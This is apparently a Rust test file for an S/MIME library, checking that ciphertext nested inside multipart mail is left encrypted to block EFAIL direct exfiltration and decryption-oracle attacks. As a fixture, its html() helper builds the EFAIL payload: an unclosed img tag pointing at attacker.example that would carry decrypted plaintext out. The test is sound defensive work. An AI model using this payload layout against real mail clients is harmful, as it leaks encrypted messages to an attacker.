//! EFAIL direct exfiltration and the decryption oracle (RFC 8551 §6, REQUIREMENTS.md
//! §2 row 4): an encrypted part nested inside a multipart is never decrypted as if it
//! were the message. The reader leaves it encrypted, reports no `Encrypted` layer for
//! it, and lists it (`OpenedMessage::nested_encrypted_parts`) with its MIME path and
//! its own bytes, which open separately with `reader::open` to the original plaintext.
//!
//! Every message is made at test time: the encrypted part by our library and by
//! `openssl cms -encrypt`, to a fresh test identity (tests/common/pki.rs); the
//! signatures by our library with another one.

use std::time::SystemTime;

use crate::common;

use common::pki::{Pki, pki};
use common::read_file;
use smime::cms::{ContentCipher, EnvelopeOptions, SignOptions};
use smime::mime::SignFormat;
use smime::reader::{self, Layer, OpenedMessage, SignedScope};
use smime::trust::{Policy, TrustStore};
use smime::{Certificate, Identity};

/// The text only the encrypted part holds.
const SECRET: &str = "SECRET-PLAINTEXT-4711";

fn identity(p: &Pki, who: &str) -> Identity {
    p.identity(who)
}

fn trust(p: &Pki) -> TrustStore {
    let mut t = TrustStore::new();
    t.add_anchor(
        Certificate::load(&read_file(&p.root()))
            .expect("root")
            .remove(0),
    );
    t
}

/// The entity that gets encrypted.
fn secret_entity() -> Vec<u8> {
    format!("Content-Type: text/plain; charset=us-ascii\r\n\r\nThe {SECRET} is here.\r\n")
        .into_bytes()
}

/// The encrypted part, made by our library: an `application/pkcs7-mime` entity.
fn ours_encrypted(p: &Pki) -> Vec<u8> {
    smime::mime::encrypt_message_bytes(
        &secret_entity(),
        &[identity(p, "bob").certificate().clone()],
        &EnvelopeOptions::with_cipher(ContentCipher::Aes256Cbc),
    )
    .expect("encrypt")
}

/// The encrypted part, made by `openssl cms -encrypt` (its S/MIME output is an
/// entity: MIME-Version, Content-Disposition, Content-Type, Content-Transfer-Encoding),
/// in the CRLF form mail carries (openssl writes LF; signing would canonicalise it).
fn openssl_encrypted(p: &Pki) -> Vec<u8> {
    common::msg::crlf(&common::openssl::encrypt(
        &secret_entity(),
        &[&p.cert("bob")],
        "aes-256-cbc",
        None,
        false,
    ))
}

/// A multipart/mixed entity (no outer fields) around `parts`.
fn mixed(boundary: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut m =
        format!("Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n").into_bytes();
    for part in parts {
        m.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        m.extend_from_slice(part);
        if !part.ends_with(b"\r\n") {
            m.extend_from_slice(b"\r\n");
        }
    }
    m.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    m
}

/// The outer fields of a message from alice to bob.
fn outer() -> Vec<u8> {
    b"From: alice@example.com\r\nTo: bob@example.com\r\nSubject: nested\r\nMIME-Version: 1.0\r\n"
        .to_vec()
}

fn message(entity: &[u8]) -> Vec<u8> {
    let mut m = outer();
    m.extend_from_slice(entity);
    m
}

fn html(text: &str) -> Vec<u8> {
    format!("Content-Type: text/html\r\n\r\n<p>{text}</p><img src=\"http://attacker.example/?\r\n")
        .into_bytes()
}

/// `message` (whole, or an entity without From) signed by alice, multipart/signed.
fn signed_by_alice(p: &Pki, message: &[u8]) -> Vec<u8> {
    smime::mime::sign_message_bytes(
        message,
        &identity(p, "alice"),
        &SignOptions::default(),
        SignFormat::Detached,
    )
    .expect("sign")
}

/// Opens `m` with bob's identity (so that decrypting would succeed), in memory and
/// streaming; both must agree on everything asserted here.
fn open_as_bob(p: &Pki, m: &[u8]) -> OpenedMessage {
    let bob = identity(p, "bob");
    let t = trust(p);
    let now = SystemTime::now();
    let in_memory = reader::open(m, &[&bob], &t, &Policy::email(), now).expect("open");
    let streamed = reader::open_stream(m, &[&bob], &t, &Policy::email(), now)
        .expect("open_stream")
        .into_in_memory()
        .expect("content");
    assert_eq!(in_memory.content(), streamed.content());
    assert_eq!(in_memory.signed_scope(), streamed.signed_scope());
    assert_eq!(in_memory.layers().len(), streamed.layers().len());
    assert_eq!(
        paths(&in_memory),
        paths(&streamed),
        "open and open_stream list the same nested parts"
    );
    in_memory
}

fn paths(m: &OpenedMessage) -> Vec<Vec<usize>> {
    m.nested_encrypted_parts()
        .iter()
        .map(|n| n.path().to_vec())
        .collect()
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// The EFAIL rule for one opened message: the plaintext is nowhere in the content, no
/// layer says Encrypted, and exactly one nested part is listed, at `path`, whose own
/// bytes are `encrypted` and open (as a separate origin) to the secret entity.
#[track_caller]
fn assert_left_encrypted(p: &Pki, opened: &OpenedMessage, encrypted: &[u8], path: &[usize]) {
    assert!(
        !contains(opened.content(), SECRET.as_bytes()),
        "the nested part was decrypted into the content"
    );
    assert!(
        !opened
            .layers()
            .iter()
            .any(|l| matches!(l, Layer::Encrypted { .. })),
        "an Encrypted layer was reported for a nested part: {:?}",
        opened.layers()
    );
    assert_eq!(opened.decryption_authenticated(), None);
    assert_eq!(paths(opened), [path.to_vec()]);
    let nested = &opened.nested_encrypted_parts()[0];
    // The listed entity is the part as it sits in the message (headers and body).
    let listed = nested.entity();
    assert!(
        contains(encrypted, listed.trim_ascii_end()),
        "the listed entity is the encrypted part"
    );
    let ct = nested
        .headers()
        .content_type()
        .expect("content type")
        .expect("a Content-Type");
    assert!(ct.mime_type().ends_with("pkcs7-mime"), "{}", ct.mime_type());
    // Opened on its own, when the user asks: the original plaintext.
    let bob = identity(p, "bob");
    let alone = reader::open(
        listed,
        &[&bob],
        &trust(p),
        &Policy::email(),
        SystemTime::now(),
    )
    .expect("the nested part opens on its own");
    assert_eq!(alone.content(), secret_entity().as_slice());
    assert!(matches!(alone.layers(), [Layer::Encrypted { .. }]));
    assert!(alone.nested_encrypted_parts().is_empty());
}

/// Both makers of the encrypted part.
fn encrypted_parts(p: &Pki) -> [(&'static str, Vec<u8>); 2] {
    [
        ("ours", ours_encrypted(p)),
        ("openssl", openssl_encrypted(p)),
    ]
}

/// The EFAIL direct exfiltration layout: attacker HTML, the victim's ciphertext,
/// attacker HTML, in a plain multipart/mixed. Today's clients that decrypt the middle
/// part in place send the plaintext to the attacker's server.
#[test]
fn html_encrypted_html_is_left_encrypted_and_listed() {
    let p = pki();
    for (maker, enc) in encrypted_parts(p) {
        let m = message(&mixed(
            "efail-b",
            &[
                &html("Hello"),
                &enc,
                &b"Content-Type: text/html\r\n\r\n\"></p>\r\n"[..],
            ],
        ));
        let opened = open_as_bob(p, &m);
        assert_left_encrypted(p, &opened, &enc, &[1]);
        // The content is the message as received.
        assert_eq!(opened.content(), m.as_slice(), "{maker}");
        assert_eq!(opened.signed_scope(), SignedScope::NotSigned, "{maker}");
        assert!(opened.layers().is_empty(), "{maker}");
        assert_eq!(opened.content_path(), &[] as &[usize], "{maker}");
    }
}

/// The decryption oracle: an attacker's own mail carrying a captured ciphertext as an
/// attachment.
#[test]
fn encrypted_attachment_is_left_encrypted_and_listed() {
    let p = pki();
    for (maker, enc) in encrypted_parts(p) {
        let mut attachment =
            b"Content-Disposition: attachment; filename=\"smime.p7m\"\r\n".to_vec();
        // openssl's entity already has a Content-Disposition: use it as it is.
        if maker == "openssl" {
            attachment.clear();
        }
        attachment.extend_from_slice(&enc);
        let m = message(&mixed(
            "oracle-b",
            &[
                &b"Content-Type: text/plain\r\n\r\nPlease have a look at the attachment.\r\n"[..],
                &attachment,
            ],
        ));
        let opened = open_as_bob(p, &m);
        assert_left_encrypted(p, &opened, &attachment, &[1]);
        assert_eq!(opened.content(), m.as_slice(), "{maker}");
    }
}

/// A whole-message signature over a multipart/mixed that holds an encrypted part: the
/// signature is the message's (blue check), the encrypted part is still nested.
#[test]
fn encrypted_part_inside_signed_multipart_is_left_encrypted() {
    let p = pki();
    for (maker, enc) in encrypted_parts(p) {
        let inner = mixed(
            "signed-mixed-b",
            &[
                &b"Content-Type: text/plain\r\n\r\nsigned text\r\n"[..],
                &enc,
            ],
        );
        let m = signed_by_alice(p, &message(&inner));
        let opened = open_as_bob(p, &m);
        assert_left_encrypted(p, &opened, &enc, &[0, 1]);
        assert_eq!(opened.signed_scope(), SignedScope::WholeMessage, "{maker}");
        assert!(opened.is_signature_valid(), "{maker}");
        assert_eq!(opened.content(), inner.as_slice(), "{maker}");
        assert_eq!(opened.content_path(), &[0], "{maker}");
    }
}

/// A signed part inside an unsigned multipart (row 11: Partial) that holds an
/// encrypted part: still Partial, the encrypted part is still nested.
#[test]
fn encrypted_part_inside_partial_signed_part_is_left_encrypted() {
    let p = pki();
    for (maker, enc) in encrypted_parts(p) {
        // The signed part's content is a multipart holding the encrypted part.
        let signed_mixed = signed_by_alice(
            p,
            &mixed(
                "inner-b",
                &[
                    &b"Content-Type: text/plain\r\n\r\nsigned text\r\n"[..],
                    &enc,
                ],
            ),
        );
        let m = message(&mixed("outer-b", &[&html("Hello"), &signed_mixed]));
        let opened = open_as_bob(p, &m);
        assert_left_encrypted(p, &opened, &enc, &[1, 0, 1]);
        assert_eq!(opened.signed_scope(), SignedScope::Partial, "{maker}");
        assert!(!opened.is_signature_valid(), "{maker}");
        assert_eq!(opened.signatures().count(), 1, "{maker}");
        assert!(
            opened.signatures().all(|s| s.status().is_valid()),
            "{maker}"
        );
        assert_eq!(opened.content_path(), &[1, 0], "{maker}");

        // The signed part's content IS the encrypted entity (sign over ciphertext).
        let signed_enc = signed_by_alice(p, &enc);
        let m = message(&mixed("outer-b", &[&html("Hello"), &signed_enc]));
        let opened = open_as_bob(p, &m);
        assert_left_encrypted(p, &opened, &enc, &[1, 0]);
        assert_eq!(opened.signed_scope(), SignedScope::Partial, "{maker}");
        assert_eq!(opened.signatures().count(), 1, "{maker}");
        // The content is the signed part's content: the encrypted entity, unopened.
        assert_eq!(opened.content_path(), &[1, 0], "{maker}");
        assert!(
            contains(&enc, opened.content().trim_ascii_end()),
            "{maker}: the content is the encrypted entity as signed"
        );
    }
}

/// Inside an encrypted message, a multipart holding another encrypted part: the outer
/// layer (the message's own) is decrypted, the inner part is not.
#[test]
fn encrypted_part_inside_decrypted_message_is_left_encrypted() {
    let p = pki();
    for (maker, enc) in encrypted_parts(p) {
        let inner = mixed(
            "decrypted-b",
            &[&b"Content-Type: text/plain\r\n\r\nouter text\r\n"[..], &enc],
        );
        let m = smime::mime::encrypt_message_bytes(
            &message(&inner),
            &[identity(p, "bob").certificate().clone()],
            &EnvelopeOptions::with_cipher(ContentCipher::Aes256Gcm),
        )
        .expect("encrypt");
        let opened = open_as_bob(p, &m);
        assert_eq!(opened.content(), inner.as_slice(), "{maker}");
        assert_eq!(opened.decryption_authenticated(), Some(true), "{maker}");
        assert_eq!(opened.layers().len(), 1, "{maker}");
        assert!(!contains(opened.content(), SECRET.as_bytes()), "{maker}");
        assert_eq!(paths(&opened), [vec![0, 1]], "{maker}");
        assert_eq!(opened.content_path(), &[0], "{maker}");
    }
}

/// Control: the same encrypted entity as the whole message still decrypts.
#[test]
fn encrypted_entity_as_the_whole_message_decrypts() {
    let p = pki();
    for (maker, enc) in encrypted_parts(p) {
        let opened = open_as_bob(p, &message(&enc));
        assert_eq!(opened.content(), secret_entity().as_slice(), "{maker}");
        assert!(
            matches!(opened.layers(), [Layer::Encrypted { .. }]),
            "{maker}"
        );
        assert!(opened.nested_encrypted_parts().is_empty(), "{maker}");
        assert_eq!(opened.content_path(), &[0], "{maker}");
    }
}

/// The part's labels are only hints: an encrypted part labelled `smime-type=signed-data`
/// (as .NET labels EnvelopedData, or an attacker who hopes it is opened as a signed
/// part) and one sent as `application/octet-stream` named `smime.p7m` (KMail) are left
/// encrypted and listed too; so are many of them, up to `MAX_NESTED_PARTS`.
#[test]
fn mislabelled_and_many_encrypted_parts_are_left_encrypted() {
    let p = pki();
    let enc = ours_encrypted(p);
    let text = String::from_utf8(enc.clone()).expect("ASCII");
    let mislabelled = text.replace("smime-type=enveloped-data", "smime-type=signed-data");
    assert_ne!(mislabelled, text, "the label was there to change");
    let (head, body) = text.split_once("\r\n\r\n").expect("a header block");
    let octet = format!(
        "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{body}"
    );
    assert!(head.contains("base64"));
    let m = message(&mixed(
        "labels-b",
        &[&html("Hello"), mislabelled.as_bytes(), octet.as_bytes()],
    ));
    let opened = open_as_bob(p, &m);
    assert!(!contains(opened.content(), SECRET.as_bytes()));
    assert!(opened.layers().is_empty());
    assert_eq!(opened.signed_scope(), SignedScope::NotSigned);
    assert_eq!(paths(&opened), [vec![1], vec![2]]);
    for part in opened.nested_encrypted_parts() {
        let alone = reader::open(
            part.entity(),
            &[&identity(p, "bob")],
            &trust(p),
            &Policy::email(),
            SystemTime::now(),
        )
        .expect("opens on its own");
        assert_eq!(alone.content(), secret_entity().as_slice());
    }

    // Many: the first MAX_NESTED_PARTS are listed, none is decrypted.
    let many: Vec<&[u8]> = std::iter::repeat_n(&enc[..], reader::MAX_NESTED_PARTS + 4).collect();
    let m = message(&mixed("many-b", &many));
    let opened = open_as_bob(p, &m);
    assert!(!contains(opened.content(), SECRET.as_bytes()));
    assert!(opened.layers().is_empty());
    let want: Vec<Vec<usize>> = (0..reader::MAX_NESTED_PARTS).map(|i| vec![i]).collect();
    assert_eq!(paths(&opened), want);
}
